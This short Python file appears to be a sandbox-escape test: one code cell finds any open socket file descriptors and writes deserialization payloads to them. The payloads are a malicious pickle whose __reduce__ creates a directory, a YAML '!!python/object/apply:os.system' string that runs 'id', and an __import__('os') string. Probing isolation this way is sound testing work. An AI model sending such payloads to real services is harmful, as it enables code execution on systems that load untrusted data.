"""Sends pickles and code in place of messages: whoever loads them runs them."""

OUTCOME = "ended"
STOCK = False
CELLS = [
    """
import os
import socket
import stat
import struct

def sockets():
    for number in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass

def write(data):
    for number in sockets():
        try:
            os.set_blocking(number, True)
            while data:
                data = data[os.write(number, data):]
        except OSError as error:
            print("held:", type(error).__name__)

import pickle

class Runs:
    def __reduce__(self):
        return (os.mkdir, ("planted-by-a-student",))

for data in (pickle.dumps(Runs()), b"!!python/object/apply:os.system ['id']", b"__import__('os')"):
    for number in range(1, 12):
        write(struct.pack("<II", len(data), number) + data)
"""
]
